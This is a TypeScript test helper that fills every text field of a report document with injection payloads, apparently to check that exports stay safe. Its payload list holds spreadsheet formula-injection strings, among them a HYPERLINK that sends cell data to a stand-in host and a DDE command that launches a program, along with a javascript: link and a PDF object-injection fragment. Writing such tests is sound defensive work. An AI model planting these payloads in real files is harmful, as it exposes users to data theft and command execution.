import type { ReportDocument } from '../../../reports/index.js';

/** What a spreadsheet or a viewer would act on if it took a text for more than a text. */
const POISON = [
  '=HYPERLINK("http://x.example/?"&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '-1+1',
  'https://x.example/点我',
  '=1+1\n=2+2',
  '<a href="javascript:alert(1)">&amp;</a>',
  '(\\)) /URI (http://x.example) >> endobj',
] as const;
/** Words of the program, which no data come into. */
const OUR_WORDS = new Set([
  ...['key', 'kind', 'axisKind', 'valueKind', 'direction', 'align', 'emphasis', 'better', 'metricId'],
  ...['id', 'language', 'timeZone', 'state'],
]);

/** A document with poison in every field that holds text, and how many those are. */
export function poisoned(document: ReportDocument): {
  readonly document: ReportDocument;
  readonly fields: number;
} {
  let fields = 0;
  const walk = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return OUR_WORDS.has(key) ? value : POISON[fields++ % POISON.length];
    if (Array.isArray(value)) return value.map((one) => walk(one, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, walk(one, name)]));
  };
  // the walk keeps every field and its type
  return { document: walk(document, '') as ReportDocument, fields };
}
